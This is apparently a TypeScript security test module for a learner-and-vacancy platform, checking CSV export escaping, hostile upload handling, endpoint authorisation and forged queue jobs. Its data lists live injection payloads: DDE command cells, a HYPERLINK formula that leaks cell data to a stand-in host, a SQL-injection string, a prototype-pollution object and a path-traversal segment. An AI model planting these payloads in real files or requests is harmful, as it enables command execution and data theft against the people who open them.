import { ReferenceService } from '@meriden/services';
import { JOBS as TABLE, JOB_NAMES, QUEUES } from '../../libs/queue/src/jobs.js';
import { createProcessors, type Handlers } from '../../libs/queue/src/processors.js';
import { readFile } from '../../libs/services/src/imports/read-file.js';
import { LEARNER_COLUMNS, readLearner } from '../../libs/services/src/imports/learner-rows.js';
import type { Watcher } from '../tenants/canaries.js';
import { raw, type Variant } from './site.js';

/** Cells that a spreadsheet would run, planted as descriptions of a vacancy before anything is tried. */
export const FORMULAS = ['=1+1', '+1+1', '-1+1', '@SUM(1)', '\t=1+1', '\r=1+1', '=cmd|\' /C calc\'!A0', '=HYPERLINK("http://x.example?"&A1)', '" =1', '"",=1', ';=1', ',=1', '＝1', '＋1', '－1', '＠1', '\u200b=1', '=DDE("cmd";"x")'] as const;

/** 13: what an export would run. The vacancies planted with `FORMULAS` are employer a’s. */
export const EXPORTED: readonly Variant[] = FORMULAS.map((formula, i) => ({
  name: `an exported cell ${JSON.stringify(formula)}`,
  async attempt(site) {
    const file = await exported(site);
    const row = file.find((cells) => cells[0] === `Planted ${i}`);
    const cell = row?.at(-1) ?? '(no such row)';
    return cell.startsWith("'") && !/[\t\r]/.test(cell) ? null : `it is written as ${JSON.stringify(cell)}`;
  },
}));

/** One file for all of them: a person takes only so many. */
let taken: Promise<readonly string[][]> | null = null;
function exported(site: Parameters<Variant['attempt']>[0]): Promise<readonly string[][]> {
  taken ??= raw(site, 'host a', '/exports/vacancies.csv').then(({ text }) => cellsOf(text));
  return taken;
}

/** RFC 4180 read back, as strictly as a spreadsheet would. */
function cellsOf(text: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, quoted, bare, end] of text.replace(/^\ufeff/, '').matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? bare ?? '');
    if (end === '\r\n') rows.push([]);
  }
  return rows;
}

const HEADER = 'givenName,familyName,uln,dateOfBirth,academicYear,qualification,entryPoint';
const row = (given: string, uln = ''): string => `${given},Farrow,${uln},2008-03-01,2026/27,60358324,school-leaver-t-level`;
const magic = (...bytes: number[]): Buffer => Buffer.concat([Buffer.from(bytes), Buffer.alloc(600, 1)]);

function* endless(first: string, part: string): Generator<Buffer> {
  yield Buffer.from(first);
  const chunk = Buffer.from(part);
  // 500 MB, if anybody took them.
  for (let i = 0; i < 8_000; i += 1) yield chunk;
}

const reference = new ReferenceService();

type Hostile = readonly [what: string, source: Iterable<Buffer>, code: string];
const text = (...lines: string[]): Iterable<Buffer> => [Buffer.from(lines.join('\n'))];
const FILES: readonly Hostile[] = [
  ['one line of 500 MB', endless('', 'x'.repeat(65_536)), 'ROW_TOO_LONG'],
  ['one quoted cell of 500 MB', endless(`${HEADER}\n"`, 'x'.repeat(65_536)), 'ROW_TOO_LONG'],
  ['500 MB of short lines', endless(`${HEADER}\n`, 'a,b,c\n'.repeat(10_923)), 'TOO_MANY_ENTRIES'],
  ['500 MB with a fault in every other row', endless(`${HEADER}\n`, `${row('Zoe')}\na,b,c\n`.repeat(850)), 'TOO_MANY_ENTRIES'],
  ['10,000 columns', text('a,'.repeat(10_000)), 'TOO_MANY_ENTRIES'],
  ['10,000 cells in a row', text(HEADER, 'a,'.repeat(10_000)), 'TOO_MANY_ENTRIES'],
  ['Windows-1252', [Buffer.from(`${HEADER}\n${row('Zoë')}`, 'latin1')], 'FILE_ENCODING'],
  ['broken UTF-16', [Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(`${HEADER}\n`, 'utf16le'), Buffer.from([0x00, 0xd8, 0x41, 0x00])])], 'FILE_ENCODING'],
  ['a NUL', text(HEADER, row('Zo\0e')), 'FILE_MALFORMED'],
  ['an open quote', text(HEADER, `"${row('Zoe')}`), 'FILE_MALFORMED'],
  ['a zip, as a bomb or with a path that climbs', [magic(0x50, 0x4b, 0x03, 0x04)], 'FILE_NOT_CSV'],
  ['an empty zip', [magic(0x50, 0x4b, 0x05, 0x06)], 'FILE_NOT_CSV'],
  ['an old workbook', [magic(0xd0, 0xcf, 0x11, 0xe0)], 'FILE_NOT_CSV'],
  ['a gzip archive', [magic(0x1f, 0x8b)], 'FILE_NOT_CSV'],
  ['a PDF', [Buffer.from('%PDF-1.7\n')], 'FILE_NOT_CSV'],
  ['a program', [magic(0x7f, 0x45, 0x4c, 0x46)], 'FILE_NOT_CSV'],
  ['nothing', [Buffer.alloc(0)], 'FILE_EMPTY'],
  ['a header alone', text(HEADER), 'FILE_EMPTY'],
  ['a formula for a name', text(HEADER, row('"=1+1"')), 'FORMULA'],
  ['a formula in full width', text(HEADER, row('＝1+1')), 'FORMULA'],
  ['a name turned around', text(HEADER, row('\u202eeoZ')), 'FIELD_INVALID'],
  ['a wrong learner number', text(HEADER, row('Zoe', '9276308687')), 'ULN_INVALID'],
  ['columns that nobody may set', text(`${HEADER},organisationId,version,personId`, `${row('Zoe')},x,9,y`), 'COLUMN_UNKNOWN'],
  ['a column twice', text(`${HEADER},uln`, `${row('Zoe')},x`), 'DUPLICATE_ENTRY'],
  ['a column missing', text('givenName,familyName', 'a,b'), 'COLUMN_MISSING'],
];

/** 14: hostile files. What another college's number does is tried on the database in `test/medium/imports.medium-spec.ts`. */
const READ: readonly Variant[] = FILES.map(([what, source, code]) => ({
  name: `a file with ${what}`,
  async attempt() {
    const reading = await readFile(chunks(source), LEARNER_COLUMNS, (cells) => readLearner(cells, reference, '2026-11-24'));
    return reading.errors[0]?.code === code && (reading.good.length === 0 || !reading.usable) ? null : `got ${JSON.stringify(reading.errors.slice(0, 2))}`;
  },
}));

const csv = { 'content-type': 'text/csv' };
const handed = (what: string, watcher: Watcher, kind: string, status: number, body: string | Buffer, headers: Readonly<Record<string, string>> = csv): Variant => ({
  name: `handed in: ${what}`,
  async attempt(site) {
    const got = await raw(site, watcher, `/imports/${kind}`, { method: 'POST', headers, body: typeof body === 'string' ? body : new Uint8Array(body) });
    return got.status === status ? null : `got ${got.status} ${got.text.slice(0, 200)}`;
  },
});

const HANDED: readonly Variant[] = [
  handed('by nobody', 'nobody', 'learners', 401, HEADER),
  handed('by a learner', 'student a', 'learners', 403, HEADER),
  handed('by an employer as learners', 'host a', 'learners', 403, HEADER),
  handed('by a college as vacancies', 'staff a', 'vacancies', 403, HEADER),
  handed('by a college as organisations', 'staff a', 'organisations', 403, HEADER),
  handed('as a list that nobody keeps', 'staff a', 'placements', 404, HEADER),
  handed('with a path that climbs', 'staff a', '..%2Flearners', 404, HEADER),
  handed('a workbook', 'staff a', 'learners', 400, magic(0x50, 0x4b, 0x03, 0x04)),
  handed('nothing', 'staff a', 'learners', 400, ''),
  handed('11 MB', 'staff a', 'learners', 413, Buffer.alloc(11 * 1024 * 1024, 'a')),
  handed('JSON', 'staff a', 'learners', 415, '{}', { 'content-type': 'application/json' }),
  handed('a form', 'staff a', 'learners', 415, 'x', { 'content-type': 'multipart/form-data; boundary=x' }),
];

export const IMPORTED: readonly Variant[] = [...READ, ...HANDED];

async function* chunks(source: Iterable<Buffer>): AsyncGenerator<Uint8Array> {
  yield* source;
}

const ID = '0b9f5c1e-6f0a-4f43-9d0b-3c4f2f4f8c11';
const PAYLOADS: readonly (readonly [string, string, unknown])[] = [
  ['a name of no job', 'drop-everything', { commandId: ID }],
  ['a job of another queue', 'solve-round', { commandId: ID, roundId: ID, attempt: 1 }],
  ['no command', 'score-learner', { learnerId: ID, version: 1 }],
  ['an id that is none', 'score-learner', { commandId: ID, learnerId: "' or 1=1", version: 1 }],
  ['another tenant smuggled in', 'score-learner', { commandId: ID, learnerId: ID, version: 1, organisationId: ID }],
  ['a whole row smuggled in', 'score-learner', { commandId: ID, learnerId: ID, version: 1, learner: { givenName: 'Zoe' } }],
  ['a version below nothing', 'score-learner', { commandId: ID, learnerId: ID, version: -1 }],
  ['a version that is text', 'score-vacancy', { commandId: ID, vacancyId: ID, version: '1' }],
  ['a prototype', 'score-learner', JSON.parse(`{"commandId":"${ID}","learnerId":"${ID}","version":1,"__proto__":{"admin":true}}`)],
  ['nothing', 'score-region', null],
  ['a list', 'score-chunk', []],
];

/** 20: forged jobs. What Redis holds and what a replay does is tried in `test/medium/queue-jobs.medium-spec.ts` and the fault campaign. */
export const JOBS: readonly Variant[] = PAYLOADS.map(([what, name, payload]) => ({
  name: `a job with ${what}`,
  async attempt() {
    let done = false;
    const work = async (): Promise<void> => void (done = true);
    // Whatever jobs there are, a handler for each.
    const handlers = Object.fromEntries(QUEUES.map((queue) => [queue, Object.fromEntries(JOB_NAMES.filter((known) => TABLE[known].queue === queue).map((known) => [known, work]))]));
    const { scoring } = createProcessors(handlers as unknown as Handlers);
    const said = await scoring(name, payload, { jobId: 'x', signal: new AbortController().signal }).then(
      () => 'it was taken',
      (error: Error) => error.message,
    );
    if (done || said === 'it was taken') return 'it was done';
    return /Zoe|or 1=1/.test(said) ? `the refusal repeats what was sent: ${said}` : null;
  },
}));
